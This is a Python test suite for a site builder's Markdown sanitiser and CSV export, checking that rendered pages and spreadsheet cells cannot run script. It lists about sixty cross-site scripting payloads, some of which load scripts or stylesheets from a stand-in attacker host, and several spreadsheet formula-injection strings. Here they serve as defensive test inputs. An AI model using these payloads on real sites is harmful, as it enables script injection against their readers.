"""Editors' Markdown cannot run script in a reader's browser, whatever the validator said.

Each payload is rendered the way the site renders practice sections and
recommendation points, then parsed: no script-capable element, no event
handler, no javascript:/data:/vbscript: URL and no inline style may survive.
"""

from __future__ import annotations

import json
import re

import markdown
import pytest

from site_builder.content.markdown_safe import clean_page, render, render_document, render_inline
from site_builder.core.model import Handbook, Practice, Recommendation, Section
from site_builder.core.urls import Urls
from site_builder.render.pages.framework import PageContext
from site_builder.render.pages.practice import practice_pages
from site_builder.render.pages.recommendations import recommendation_pages
from tests.helpers.projects import VOCABULARIES
from tests.helpers.safety import dangers, page_dangers

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](x.png"onerror="alert(1))',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="x:expression(alert(1))">x</p>',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="#" onclick="alert(1)">x</a>',
    '<div onmouseover="alert(1)">hover</div>',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '<img src="https://tracker.example/pixel.gif">',
    '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
    '<img src="\\\\evil.example/x.png">',  # \\host is //host to a browser
    '<img src="/&#9;/evil.example/y.png">',  # the tab is dropped: //host
    "![x](/\\evil.example/x.png)",
    '<img src=" //evil.example/z.png">',
    'A paragraph\n{: onclick="alert(1)" }',  # attr_list, on for context pages
    '[x](javascript:alert(1)){: title="t" }',
    '<p id="__config">shadows material\'s configuration</p>',
]


def head_dangers(head: str) -> list[str]:
    """What a generated page's <head> additions hold besides Highwire meta tags, feed
    links and one JSON-LD script whose text is JSON with no `<` (nothing ends it)."""
    found = []
    scripts = re.findall(r'<script type="application/ld\+json">(.*?)</script>', head, re.S)
    for text in scripts:
        json.loads(text)
        if "<" in text:
            found.append("< in the JSON-LD")
    rest = re.sub(r'<script type="application/ld\+json">.*?</script>', "", head, flags=re.S)
    rest = re.sub(r'<meta name="citation_[a-z_]+" content="[^"<>]*">', "", rest)
    rest = re.sub(
        r'<link rel="alternate" type="application/atom\+xml" title="[^"<>]*" href="[^"<>:]*">',
        "",
        rest,
    )
    if rest.strip():
        found.append(f"more in the head: {rest.strip()[:200]}")
    return found


def test_there_are_at_least_forty_payloads() -> None:
    assert len(PAYLOADS) >= 40


def test_a_page_may_link_its_own_citation_downloads_and_nothing_else_of_data() -> None:
    own = '<a download="p.bib" href="data:application/x-bibtex;charset=utf-8;base64,QG1pc2M=">b</a>'
    html_page = '<a download="p.html" href="data:text/html;charset=utf-8;base64,PHNjcmlwdD4=">x</a>'
    assert page_dangers(own) == []
    assert dangers(own) != []  # editors' markup may not link data: at all
    assert page_dangers(html_page) != []
    assert page_dangers(own.replace(' download="p.bib"', "")) != []  # no download: a link
    assert head_dangers('<script type="application/ld+json">{"a":"\\u003c/script>"}</script>') == []
    assert head_dangers('<script type="application/ld+json">{"a":"</b>"}</script>') != []
    assert head_dangers('<meta name="citation_title" content="x"><base href="x">') != []


def test_the_inspector_would_catch_what_it_looks_for() -> None:
    assert dangers(
        '<p onclick="x">a</p><script></script><a href=" javascript:x">b</a>'
        '<img src="\\\\h/x"><i id="__config">'
    ) == [
        "p[onclick]",
        "<script>",
        "a[href= javascript:x]",
        "remote image \\\\h/x",
        "material's id __config",
    ]


def test_footnote_links_follow_their_prefixed_ids() -> None:
    html = render("A claim.[^1]\n\n[^1]: Its source.")
    ids = set(re.findall(r'id="([^"]+)"', html))
    targets = set(re.findall(r'href="#([^"]+)"', html))
    assert targets and targets <= ids


def context_page(text: str) -> str:
    """A page of docs/ as MkDocs renders it (attr_list on), then as the pipeline cleans it."""
    return clean_page(markdown.markdown(text, extensions=["attr_list", "tables", "toc"]))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("renderer", [render, render_inline, render_document, context_page])
def test_payload_is_neutralised(payload: str, renderer) -> None:
    assert dangers(renderer(payload)) == []
    assert dangers(renderer(f"Some text before.\n\n{payload}\n\nAnd after.")) == []


def unvalidated_handbook(payload: str) -> Handbook:
    """A model built straight from hostile text, as if validation had been skipped."""
    sections = tuple(
        Section(slug, heading, payload, 1)
        for slug, heading in (
            ("challenges", "Challenges"),
            ("stakeholders", "Stakeholders"),
            ("actions", "Actions"),
            ("results", "Results"),
        )
    )
    practice = Practice(
        id="p",
        title=payload,
        organisation=payload,
        country="IT",
        ecosystems=("health",),
        helix=("industry",),
        cluster_role="sme-capacity",
        source="x",
        sections=sections,
        path="practices/p.md",
        region=payload,
    )
    recommendation = Recommendation(
        id="r",
        title=payload,
        number="1",
        source="x",
        body=payload,
        path="recommendations/r.md",
        points=(payload, payload),
        practices=("p",),
    )
    return Handbook((practice,), (recommendation,), {}, VOCABULARIES)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_whole_pages_built_from_hostile_content_are_safe(payload: str) -> None:
    from site_builder.adapter.files import page_source

    site = PageContext(unvalidated_handbook(payload), Urls())
    for page in [plan.page() for plan in [*practice_pages(site), *recommendation_pages(site)]]:
        assert page_dangers(page.html) == [], page.src_uri
        assert head_dangers(page.head) == [], page.src_uri
        assert "<script" not in page_source(page).lower()  # what MkDocs reads


@pytest.mark.parametrize(
    "formula", ['=HYPERLINK("https://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"]
)
def test_the_csv_export_holds_no_formula_a_spreadsheet_would_run(formula: str) -> None:
    import csv
    import io

    from site_builder.outputs.exports import practices_csv

    rows = list(csv.reader(io.StringIO(practices_csv(unvalidated_handbook(formula)))))
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{formula}" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
